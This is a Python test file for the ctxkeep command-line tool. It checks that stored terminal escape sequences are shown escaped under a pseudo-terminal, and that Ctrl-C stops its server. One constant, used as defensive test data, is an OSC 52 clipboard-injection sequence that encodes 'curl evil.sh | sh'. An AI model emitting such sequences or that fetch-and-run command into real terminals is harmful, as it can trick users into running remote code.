"""Stored escape sequences never reach a terminal raw: `ctxkeep evidence get` and `search` under a real pseudo-terminal."""

from __future__ import annotations

import os
import pty
import select
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from ctxkeep.models.evidence import EvidenceItem
from ctxkeep.storage import open_store
from ctxkeep.tools.evidence import evidence_put
from ctxkeep.tools.scope import Scope
from tests.http_server import free_port

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
TITLE = "\x1b]0;owned\x07"


def _store(db: Path, project: Path) -> str:
    async def put() -> str:
        store = await open_store(db)
        try:
            done = await evidence_put(
                Scope(store=store, project=str(project)),
                [EvidenceItem(content=f"build log line\n{OSC52}{TITLE}clipboard payload here\n", source="Bash")],
            )
            return done.refs[0]
        finally:
            await store.close()

    return anyio.run(put)


def _in_a_terminal(args: list[str], env: dict[str, str]) -> bytes:
    leader, follower = pty.openpty()
    done = subprocess.Popen([sys.executable, "-m", "ctxkeep", *args], stdout=follower, stderr=follower, env=env)
    os.close(follower)
    out = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 30)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the follower closed: the command ended
            break
        if not chunk:
            break
        out += chunk
    done.wait(timeout=30)
    os.close(leader)
    return out


@pytest.mark.slow
def test_stored_escape_sequences_are_shown_escaped_in_a_terminal_and_kept_when_piped(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    env = {**os.environ, "CTXKEEP_DB": str(tmp_path / "ctxkeep.db"), "CTXKEEP_PROJECT": str(project), "COLUMNS": "200"}
    ref = _store(tmp_path / "ctxkeep.db", project)
    for args in (["evidence", "get", ref], ["search", "clipboard payload"]):
        shown = _in_a_terminal(args, env)
        assert b"clipboard" in shown, shown[-500:]
        assert b"\x1b]52" not in shown and b"\x1b]0;" not in shown and b"\x07" not in shown, args
        assert b"\\x1b]52" in shown or args[0] == "search"
    piped = subprocess.run(
        [sys.executable, "-m", "ctxkeep", "evidence", "get", ref], capture_output=True, env=env, timeout=60
    )
    assert OSC52.encode() in piped.stdout  # a pipe gets the stored bytes


def _until(leader: int, wanted: bytes, seconds: float = 60) -> bytes:
    out, deadline = b"", time.monotonic() + seconds
    while wanted not in out and time.monotonic() < deadline:
        ready, _, _ = select.select([leader], [], [], 0.5)
        if ready:
            try:
                out += os.read(leader, 65536)
            except OSError:
                break
    assert wanted in out, out[-2000:]
    return out


@pytest.fixture
def sigint_not_ignored() -> Iterator[None]:
    """SIGINT as a terminal's foreground job has it: a test run started in the background (`pytest &`) ignores
    SIGINT, and the server it starts would inherit that (an ignored signal stays ignored across exec)."""
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        yield
    finally:
        signal.signal(signal.SIGINT, before)


INITIALIZE_LINE = (
    b'{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", '
    b'"capabilities": {}, "clientInfo": {"name": "terminal", "version": "0"}}}\n'
)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "banner", "before_ctrl_c"),
    [
        (["serve"], b"Ctrl-C stops", b""),
        (["serve"], b"Ctrl-C stops", INITIALIZE_LINE),  # a session open: its reader waits on the terminal
        (["serve"], b"created a new database", b""),  # the warm-up opened the database: its thread is running
        (["serve", "--http", "--port", "{port}"], b"serving http://", b""),
    ],
    ids=["stdio, idle", "stdio, after a request", "stdio, database open", "http"],
)
@pytest.mark.usefixtures("sigint_not_ignored")
def test_ctrl_c_stops_serve_in_a_terminal(tmp_path: Path, args: list[str], banner: bytes, before_ctrl_c: bytes) -> None:
    env = {**os.environ, "CTXKEEP_DB": str(tmp_path / "ctxkeep.db"), "CTXKEEP_PROJECT": str(tmp_path)}
    leader, follower = pty.openpty()
    served = subprocess.Popen(
        [sys.executable, "-m", "ctxkeep", *(arg.format(port=free_port()) for arg in args)],
        stdin=follower,
        stdout=follower,
        stderr=follower,
        env=env,
        start_new_session=True,  # its own process group, as a shell gives a foreground job
    )
    os.close(follower)
    try:
        out = _until(leader, banner)
        if before_ctrl_c:
            os.write(leader, before_ctrl_c)
            out += _until(leader, b'"serverInfo"')
        os.killpg(served.pid, signal.SIGINT)  # what a terminal does on Ctrl-C: SIGINT to the foreground process group
        started = time.monotonic()
        code = served.wait(timeout=15)
        took = time.monotonic() - started
        while True:
            ready, _, _ = select.select([leader], [], [], 0.5)
            if not ready:
                break
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
    finally:
        if served.poll() is None:
            served.kill()
            served.wait()
        os.close(leader)
    assert code in (0, 130) and took < 10, (code, took)
    assert b"Traceback" not in out, out[-3000:]
